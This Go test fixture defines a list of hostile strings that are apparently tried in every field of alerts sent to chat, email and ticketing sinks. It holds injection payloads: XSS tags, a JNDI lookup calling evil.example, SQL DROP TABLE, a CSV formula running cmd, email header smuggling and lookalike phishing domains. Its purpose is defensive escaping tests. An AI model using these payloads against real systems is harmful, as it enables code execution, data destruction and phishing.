package sinktest

import "strings"

// HostileTexts are names and user agents of attackers.
// Every channel is tried with each of them in every field that a record fills.
var HostileTexts = []string{
	"",
	" ",
	"<!channel> <!here> <!everyone>",
	"<@U024BE7LH> <#C024BE7LR> <!subteam^SAZ94GDB8>",
	"<https://evil.example/|AWS console>",
	"*bold* _it_ ~no~ `code` ```block``` > quote",
	"[code]<script>alert(1)</script>[/code]",
	"<script>alert(1)</script><img src=x onerror=alert(1)>",
	`"><a href="https://evil.example">click</a><!--`,
	"&lt;!channel&gt; &amp;",
	"alice\r\nBcc: everyone@evil.example\r\n\r\nhello",
	"alice\nSubject: other",
	"alice\x00bob\x1b[31mred\x07",
	"\u202egnp.exe\u202c \u2066x\u2069 \u200bzero\u200dwidth\ufeff",
	"line\u2028separator\u2029paragraph\u0085next",
	"\xff\xfe\xfd invalid \xc3\x28 utf-8",
	"{{.Alert.ID}} {{range .Facts}}{{end}} ${jndi:ldap://evil.example/a} %s%n%d",
	"^ORcorrelation_id=x javascript:gs.print(1) ${gs.getProperty('x')}",
	"'; DROP TABLE users; -- =cmd|' /C calc'!A0 @SUM(1+1) +1-1",
	"https://sns.us-east-1.amazonaws.com.evil.example/?x=../../..",
	"🔥👨‍👩‍👧‍👦 ｆｕｌｌｗｉｄｔｈ ДЖОН 用户 مستخدم",
	"€[]{}~\\^| @£$¥èéùìòÇ",
	strings.Repeat("a", 70_000),
	strings.Repeat("é€🔥", 9_000),
	strings.Repeat("\u0301", 5_000),
	strings.Repeat("<&>\"'\\", 4_000),
	".\r\n.\r\nQUIT\r\n",
	"=?utf-8?q?spoofed?= =?utf-8?b?PHNjcmlwdD4=?=",
	`{"text":"injected"}`,
	"AWS ROOT USER",
	"Www.evil-login.com wWw.evil-login.com/aws evil-login.com login.evil-login.co.uk/x EVIL-LOGIN.COM evil-login.com@x",
}
